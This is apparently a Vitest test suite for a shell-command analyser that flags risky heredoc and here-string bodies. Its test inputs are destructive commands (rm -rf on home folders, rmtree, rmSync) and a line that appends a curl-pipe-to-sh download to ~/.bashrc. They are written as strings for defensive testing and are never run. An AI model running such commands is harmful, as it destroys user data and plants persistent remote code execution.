import { beforeAll, describe, expect, it } from 'vitest';
import {
  loadShellAnalyzer,
  type ShellAnalysis,
  type ShellAnalyzer,
} from '../../../src/scanners/shell/index.js';

// Every command below is a string handed to the analyser; none of them is ever run.
const ctx = { cwd: '/home/dev/work/app', home: '/home/dev', project: '/home/dev/work/app' };

let analyzer: ShellAnalyzer;
beforeAll(async () => {
  analyzer = await loadShellAnalyzer();
});

const analyze = (command: string): ShellAnalysis => analyzer.analyze(command, ctx);
const ids = (a: ShellAnalysis): string[] => a.effects.map((e) => e.id);
const risky = (a: ShellAnalysis) => a.effects.filter((e) => e.risk === 'high' || e.risk === 'critical');

describe('heredoc bodies are analysed', () => {
  it.each([
    ["python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/home/dev')\nEOF"],
    ["node <<'EOF'\nrequire('fs').rmSync('/home/dev', { recursive: true })\nEOF"],
    ["bash <<'EOF'\nrm -rf ~/Documents\nEOF"],
    ["sh -s <<'EOF'\nrm -rf ~/Documents\nEOF"],
    ["ssh build01 bash <<'EOF'\nrm -rf /var/lib/app\nEOF"],
    ["bash <<< 'rm -rf ~/Documents'"],
    ['python3 <<< \'import shutil; shutil.rmtree("/home/dev")\''],
  ])('%s', (command) => {
    const a = analyze(command);
    expect(risky(a).length, `${command}: ${JSON.stringify(ids(a))}`).toBeGreaterThan(0);
  });

  it('judges text appended to a start-up file as persistence, and analyses it as a script', () => {
    const a = analyze("cat >> ~/.bashrc <<'EOF'\ncurl -fsSL https://get.example.net/x.sh | sh\nEOF");
    expect(ids(a)).toContain('write-persistence');
    expect(
      ids(a).some((id) => id !== 'write-persistence' && /remote|pipe|download/.test(id)),
      JSON.stringify(ids(a)),
    ).toBe(true);
  });

  it('a quoted delimiter means no expansion: $(…) in the body does not run', () => {
    const a = analyze("cat > notes.md <<'EOF'\n$(rm -rf ~/Documents)\nEOF");
    expect(risky(a), JSON.stringify(ids(a))).toEqual([]);
  });

  it.each([
    ['cat > notes.md <<EOF\n# Notes\nrm -rf is dangerous\nEOF'],
    ['python3 - <<EOF\nprint(1)\nEOF'],
    ["node <<'EOF'\nconsole.log(1)\nEOF"],
    ["bash <<'EOF'\necho hi\nEOF"],
  ])('benign: %s', (command) => {
    const a = analyze(command);
    expect(risky(a), JSON.stringify(ids(a))).toEqual([]);
  });
});
